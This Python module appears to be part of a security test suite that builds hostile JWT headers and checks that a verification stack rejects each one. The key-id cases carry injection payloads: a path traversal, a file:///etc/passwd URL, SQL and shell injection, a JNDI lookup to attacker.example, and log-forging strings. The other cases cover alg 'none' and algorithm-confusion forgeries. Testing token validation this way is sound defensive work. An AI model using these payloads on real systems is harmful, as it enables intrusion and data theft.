"""Group A: malicious JOSE headers. No header may make a layer accept the token."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

from cryptography.hazmat.primitives import hashes

from proof.attack import spellings
from proof.attack.case import ACCEPTED, MALFORMED, Case, drafts, tokens
from proof.attack.draft import every, header, header_text, of_header, payload
from proof.attack.stack import TargetStack
from proof.attack.tokens import ABSENT, as_json, encoded, raw, rs256

_NOT_TEXT: dict[str, Any] = {"null": None, "number": 1, "list": ["k1"], "object": {}, "true": True}
_UNENCODED = {"crit": ["b64"], "b64": False}
_ALGORITHMS = ("none", "rs256", "RS384", "RS512", "PS256", "ES256", "EdDSA", "HS256", "HS512")


def header_cases() -> Iterator[Case]:
    yield from _algorithm()
    yield from _key_id()
    yield from _extensions()
    yield from _bytes()


def _unsigned(algorithm: str) -> Callable[[TargetStack], str]:
    return lambda stack: f"{stack.unsigned(stack.header(alg=algorithm))}."


def _real_signature(algorithm: str) -> Callable[[TargetStack], str]:
    def token(stack: TargetStack) -> str:
        _, payload, signature = stack.access.split(".")
        return f"{encoded(as_json(stack.header(alg=algorithm)))}.{payload}.{signature}"

    return token


def _algorithm() -> Iterator[Case]:
    unsigned = {
        "none": _unsigned("none"),
        "none-alone": lambda stack: f"{stack.unsigned({'alg': 'none', 'typ': 'JWT'})}.",
        "none-two-segments": lambda stack: stack.unsigned(stack.header(alg="none")),
    }
    yield from tokens("A01", "alg none without a signature", "token_malformed", unsigned, "alg-")
    spelled = {each: _unsigned(each) for each in ("None", "NONE", "nOnE")}
    yield from tokens("A02", "alg none in capitals, empty signature", "token_malformed", spelled, "alg-")
    real = {f"{each}-leftover-signature": _real_signature(each) for each in ("none", *spelled)}
    yield from tokens("A02", "alg none over a real token's signature", "header_invalid", real, "alg-")
    values = {**_NOT_TEXT, "missing": ABSENT, "list": ["RS256"], "empty": ""}
    yield from drafts("A04", "alg is no text", "header_invalid", of_header("alg", values), "alg-")
    over_rs256 = {each: header(alg=each) for each in _ALGORITHMS}
    yield from drafts("A05", "alg differs from the RS256 signature", "header_invalid", over_rs256, "alg-")
    digests = {"RS384": hashes.SHA384(), "RS512": hashes.SHA512()}
    signed = {name: _digested(name, digest) for name, digest in digests.items()}
    yield from tokens("A06", "right signature over another digest", "header_invalid", signed, "alg-", sent="key")


def _digested(algorithm: str, digest: hashes.HashAlgorithm) -> Callable[[TargetStack], str]:
    return lambda stack: rs256(stack.private_keys.access, stack.unsigned(stack.header(alg=algorithm)), digest)


def _key_id() -> Iterator[Case]:
    yield from drafts("A07", "no key id", "header_invalid", {"kid-missing": header(kid=ABSENT)})
    yield from drafts("A08", "key id is no text", "header_invalid", of_header("kid", _NOT_TEXT), "kid-")
    yield from drafts("A09", "key id is empty", "header_invalid", {"kid-empty": header(kid="")})
    unknown = {"kid-unknown": header(kid="q" * 43 + "=")}
    yield from drafts("A10", "key id that the pool does not have", "key_unknown", unknown)
    places = {
        "path": "../../dev/null",
        "proc": "/proc/sys/kernel/randomize_va_space",
        "sql": "' UNION SELECT '1",
        "shell": "|sleep 10",
        "file-url": "file:///etc/passwd",
        "template": "${jndi:ldap://attacker.example/k}",
        "url": lambda token: f"{token.stack.lure}/kid",
    }
    yield from drafts("A11", "key id names a place or a command", "key_unknown", of_header("kid", places), "kid-")
    yield from drafts("A11", "key id of 4,000 characters", "header_invalid", {"kid-long": header(kid="k" * 4_000)})
    lines = {
        "crlf": 'k\r\n{"level":"INFO","status":200}',
        "newline": "k\n2025-11-22 INFO admin signed in",
        "ansi": "\x1b[2J\x1b[31mk\x07",
        "bidi": "k\u202e\u2028\u0000",
    }
    yield from drafts("A12", "key id that would forge a log line", "key_unknown", of_header("kid", lines), "kid-")


def _extensions() -> Iterator[Case]:
    unknown = {"crit-unknown": header(crit=["x-unknown"])}
    yield from drafts("A13", "crit names an unknown extension", "header_invalid", unknown)
    crits = {"empty": [], "string": "exp", "names-absent-member": ["exp"], "null": None}
    yield from drafts("A14", "crit is malformed", "header_invalid", of_header("crit", crits), "crit-")
    unencoded = {"b64-false": header(**_UNENCODED)}
    yield from drafts("A15", "unencoded payload (RFC 7797)", "header_invalid", unencoded, milliseconds=50)
    for name, middle, reason in (
        ("empty", "", "token_malformed"),
        ("huge", "x" * 9_000, "token_too_large"),
        ("huge-and-short-enough", "x" * 7_000, "header_invalid"),
        ("raw-json", '{"sub":"alice"}', "token_malformed"),
    ):
        yield from tokens(
            "A15",
            f"unencoded payload, middle segment {name.replace('-', ' ')}",
            reason,
            {f"b64-false-{name}": _middle(middle)},
            milliseconds=50,
            sent="event" if name == "huge" else "live",  # more than the gateway takes
            **MALFORMED,
        )
    types = {"at+jwt": header(typ="at+jwt"), "JWT": header(typ="JWT")}
    yield from drafts("A17", "typ of an access token", ACCEPTED, types, "typ-", sent="key")
    yield from tokens("A17", "no typ, as Cognito writes it", ACCEPTED, {"typ-absent": lambda stack: stack.access})
    others = {"logout": "logout+jwt", "list": ["JWT"], "number": 5, "null": None, "empty": "", "dpop": "dpop+jwt"}
    yield from drafts("A18", "typ of another kind of token", "header_invalid", of_header("typ", others), "typ-")
    nested = {
        "member": header(cty="JWT"),
        "nested": every(header(cty="JWT"), lambda token: payload(token.stack.access.encode())(token)),
    }
    yield from drafts("A19", "cty JWT", "header_invalid", nested, "cty-")


def _middle(segment: str) -> Callable[[TargetStack], str]:
    return lambda stack: f"{encoded(as_json(stack.header(**_UNENCODED)))}.{segment}.{'A' * 342}"


def _bytes() -> Iterator[Case]:
    no_object = {name: header_text(text) for name, text in {**spellings.NO_OBJECTS, **spellings.NO_JSON}.items()}
    yield from drafts("A21", "header is no object", "token_malformed", no_object, "header-")
    no_utf_8 = {name: header_text(text) for name, text in spellings.NO_UTF_8.items()}
    yield from drafts("A22", "header is not UTF-8", "token_malformed", no_utf_8, "header-")
    yield from tokens(
        "A23",
        "alg twice, none and RS256",
        "token_malformed",
        {
            "header-duplicate-alg": lambda stack: stack.forged(
                b'{"alg":"none","alg":"RS256","kid":' + as_json(stack.kid) + b"}"
            )
        },
    )
    literals = {each: raw(each) for each in ("NaN", "Infinity", "-Infinity")}
    yield from drafts("A24", "header holds no JSON", "token_malformed", of_header("x", literals), "header-")
    yield from drafts("A24", "header holds 1e400", "header_invalid", {"header-1e400": header(x=raw("1e400"))})
